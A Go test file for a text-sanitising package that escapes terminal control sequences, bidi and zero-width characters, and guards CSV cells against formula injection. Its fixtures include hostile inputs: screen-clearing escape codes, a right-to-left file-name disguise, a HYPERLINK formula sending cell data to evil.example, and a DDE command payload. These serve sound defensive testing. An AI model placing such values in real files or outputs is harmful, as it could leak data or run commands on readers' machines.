package text

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// Hostile is a corpus of strings an account or an input file may hold to
// attack whoever reads ladmin's output. Tests across ladmin push it through
// every writer.
var hostile = []string{
	"\x1b]0;owned\x07",        // retitle the terminal
	"\x1b[2J\x1b[H",           // clear the screen
	"ana\rMallory",            // overwrite the line
	"two\nlines",              // start a new row
	"tab\there",               //
	"csi\u009b31m",            // C1 CSI
	"del\x7f",                 //
	"evil\u202egpj.exe",       // right-to-left override
	"iso\u2066late\u2069",     // isolates
	"owner\u200b@example.com", // zero-width space
	"wj\u2060x", "bom\ufeffx", "soft\u00adhyphen",
	"line\u2028sep", "para\u2029sep",
	"bad\xffutf8",
}

func TestSafeEscapesEveryHostileString(t *testing.T) {
	for _, s := range hostile {
		got := Safe(s)
		if got == s {
			t.Errorf("Safe(%q) left it unchanged", s)
		}
		if !utf8.ValidString(got) {
			t.Errorf("Safe(%q) = %q is not UTF-8", s, got)
		}
		for _, r := range got {
			if r < 0x20 || (r >= 0x7f && r <= 0x9f) || r == 0x2028 || r == 0x2029 || unicode.Is(unicode.Cf, r) {
				t.Errorf("Safe(%q) = %q still holds %U", s, got, r)
			}
		}
		if Safe(got) != got {
			t.Errorf("Safe is not idempotent on %q", s)
		}
	}
}

func TestSafeForms(t *testing.T) {
	for in, want := range map[string]string{
		"\x1b]0;x\x07":      `\x1b]0;x\x07`,
		"a\nb\rc\td":        `a\nb\rc\td`,
		"csi\u009b":         `csi\u009b`,
		"\u202eabc":         `\u202eabc`,
		"owner\u200b@x.com": `owner\u200b@x.com`,
		"\xff":              `\xff`,
		"\U000e0041":        `\U000e0041`,
		// Kept: joiners for Persian and Indic names, ordinary accents, CJK, emoji.
		"می\u200cخواهم": "می\u200cخواهم",
		"क्\u200dष":     "क्\u200dष",
		"Ana Pérez 王":   "Ana Pérez 王",
		"👩\u200d💻":      "👩\u200d💻",
		`back\slash`:    `back\slash`,
	} {
		if got := Safe(in); got != want {
			t.Errorf("Safe(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestSafeDoesNotCopyCleanText(t *testing.T) {
	s := strings.Repeat("Ana Pérez ", 10)
	if n := testing.AllocsPerRun(10, func() { _ = Safe(s) }); n != 0 {
		t.Errorf("Safe allocated %v times on clean text", n)
	}
}

func TestTruncate(t *testing.T) {
	if got := Truncate("abcdef", 3); got != "abc… (3 more characters)" {
		t.Errorf("Truncate = %q", got)
	}
	if got := Truncate("ééé", 3); got != "ééé" {
		t.Errorf("Truncate cut a short string: %q", got)
	}
	long := strings.Repeat("x", 50<<20)
	if got := SafeTrunc(long+"\x1b", 80); len(got) > 200 {
		t.Errorf("SafeTrunc kept %d bytes", len(got))
	}
}

func TestCSVGuardRoundTrip(t *testing.T) {
	values := []string{"", "'", "''", "Ana", "=1+1", "+31 6", "-5", "@SUM(A1)", "\tx", "\rx",
		`=HYPERLINK("http://evil.example/?x="&B2,"Open")`, "=cmd|'/C calc'!A0",
		"'=already", "''=twice", "'Ohana", "''quoted", "a=b", " =x", "'", "'-"}
	for _, v := range values {
		cell := GuardCSV(v)
		if cell != "" && formulaStart(cell[0]) {
			t.Errorf("GuardCSV(%q) = %q starts a formula", v, cell)
		}
		if back := UnguardCSV(cell); back != v {
			t.Errorf("UnguardCSV(GuardCSV(%q)) = %q", v, back)
		}
	}
	for in, want := range map[string]string{"=1": "'=1", "'=1": "''=1", "'Ohana": "'Ohana", "-": "-", "-1": "'-1", "'-": "''-"} {
		if got := GuardCSV(in); got != want {
			t.Errorf("GuardCSV(%q) = %q, want %q", in, got, want)
		}
	}
	// A hand-written guarded cell reads as the formula text the user meant.
	if got := UnguardCSV("'=1+1"); got != "=1+1" {
		t.Errorf("UnguardCSV('=1+1) = %q", got)
	}
}

func FuzzCSVGuardRoundTrip(f *testing.F) {
	for _, v := range append(hostile, "=1", "'=1", "''-x", "'") {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, v string) {
		cell := GuardCSV(v)
		if cell != "" && formulaStart(cell[0]) {
			t.Fatalf("GuardCSV(%q) = %q starts a formula", v, cell)
		}
		if back := UnguardCSV(cell); back != v {
			t.Fatalf("round trip of %q gave %q", v, back)
		}
	})
}
